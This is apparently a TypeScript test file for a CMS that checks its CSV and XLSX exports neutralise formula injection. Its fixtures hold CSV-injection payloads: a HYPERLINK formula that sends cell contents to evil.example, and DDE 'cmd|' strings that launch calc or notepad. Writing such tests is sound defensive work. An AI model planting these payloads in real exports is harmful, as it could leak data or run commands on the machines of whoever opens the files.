/**
 * Finding 6 (CSV formula injection): every CSV and XLSX the system writes is opened here the way
 * a spreadsheet would read it, with hostile text in every field a user controls. No cell may be
 * a formula or start with a formula character, and the text must survive behind the `'`.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Payload } from 'payload';
import { beforeAll, describe, expect, it } from 'vitest';
import { importListRows } from '../../../core/agency/list-import';
import { exportListEndpoint, importTemplateEndpoint } from '../../../cms/collections/ResponsibilityLists/endpoints/export-list';
import { learnerEndpoints } from '../../../cms/collections/learning/learner-endpoints';
import { readSpreadsheet } from '../../../cms/importer/spreadsheet';
import { makeAgency, makeUser, testPayload, unique } from '../../helpers/payload';
import type { DocId } from '../../../cms/relation';

/** Payloads from the probe, one per user-controlled text field. */
const ATTACKS = {
  topic: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  category: "=cmd|' /C calc'!A0",
  leader: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  person: '+1+cmd|\' /C notepad\'!A0',
  department: '-2+3+cmd|\' /C calc\'!A0',
  target: '\t=1+1',
} as const;
const SIGNS = /^[=+\-@\t\r]/;

let payload: Payload;
let listId: DocId;

beforeAll(async () => {
  payload = await testPayload();
  const agency = await makeAgency(payload);
  // Published (made like seed data) so an anonymous visitor may export it, as in the probe.
  const list = await payload.create({
    collection: 'responsibility-lists',
    data: { agency: agency.id, year: 2041, status: 'published', items: [{ ...ATTACKS, deadline: '2041-06-30T00:00:00.000Z', progress: '进行中' }] },
    context: { seeding: true },
  });
  listId = list.id;
});

/** Every cell of a CSV body (BOM stripped). */
const csvCells = (text: string): string[] => (parseCsv(text.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][]).flat();

/** Every cell of an XLSX body, checked for formulas as exceljs loads them. */
async function xlsxCells(bytes: ArrayBuffer): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes);
  const cells: string[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `formula cell ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, cell.address).toBeFalsy();
        cells.push(String(cell.text));
      }),
    ),
  );
  return cells;
}

/** No cell opens as a formula, and each attack is there as text behind a `'`. */
function expectNeutral(cells: string[], attacks: readonly string[]) {
  // Checked independently of safeCell: only a plain number may start with a sign.
  for (const c of cells) expect(SIGNS.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c), JSON.stringify(c)).toBe(false);
  for (const a of attacks) expect(cells, a).toContain(`'${a}`);
}

describe('list exports', () => {
  const exportAs = (format: string, user: unknown = null) =>
    exportListEndpoint.handler({ payload, user, routeParams: { id: listId }, searchParams: new URLSearchParams({ format }) } as never);

  it('an anonymous CSV export of a published list has no live formula', async () => {
    const res = await exportAs('csv');
    expect(res.status).toBe(200);
    expectNeutral(csvCells(await res.text()), Object.values(ATTACKS));
  });

  it('an anonymous XLSX export of a published list has no formula cell', async () => {
    const res = await exportAs('xlsx');
    expect(res.status).toBe(200);
    expectNeutral(await xlsxCells(await res.arrayBuffer()), Object.values(ATTACKS));
  });

  it.each(['csv', 'xlsx'])('an exported %s imports back with the original text', async (format) => {
    const res = await exportAs(format);
    const rows = await readSpreadsheet(Buffer.from(await res.arrayBuffer()), `list.${format}`);
    const result = importListRows(rows, { laws: [], year: 2041 });
    expect(result.ok, JSON.stringify(result)).toBe(true);
    if (!result.ok) return;
    const item = result.items[0]!;
    expect([item.content.topic, item.category, item.responsibility.leader, item.responsibility.person, item.responsibility.department]).toEqual([
      ATTACKS.topic, ATTACKS.category, ATTACKS.leader, ATTACKS.person, ATTACKS.department,
    ]);
  });

  it.each(['csv', 'xlsx'])('the %s import template has no formula cell', async (format) => {
    const res = await importTemplateEndpoint.handler({ payload, user: null, searchParams: new URLSearchParams({ format }) } as never);
    const cells = format === 'csv' ? csvCells(await res.text()) : await xlsxCells(await res.arrayBuffer());
    expect(cells.length).toBeGreaterThan(10);
    expectNeutral(cells, []);
  });
});

describe('unit report CSV', () => {
  it('a learner-chosen display name is text, not a formula, in the editor’s download', async () => {
    const unit = await makeAgency(payload);
    const names = ['=HYPERLINK("http://evil.example","领奖")', '@SUM(1+1)', '-1+1', '+cmd|x'];
    for (const displayName of names) {
      await payload.create({
        collection: 'learners',
        data: { email: `x-${unique()}@t.local`, password: 'learner-pass-1', displayName, audience: 'officials', unit: unit.id },
      });
    }
    const editor = await makeUser(payload, 'agency-editor', unit.id);
    const handler = learnerEndpoints.find((e) => e.path === '/unit-report')!.handler;
    const res = await handler({ payload, user: editor, searchParams: new URLSearchParams({ format: 'csv', year: '2041' }) } as never);
    expect(res.status).toBe(200);
    const cells = csvCells(await res.text());
    expectNeutral(cells, names);
    // Numbers stay numbers: hours and required hours are plain digits.
    expect(cells.filter((c) => /^\d+$/.test(c)).length).toBeGreaterThanOrEqual(names.length);
  });
});
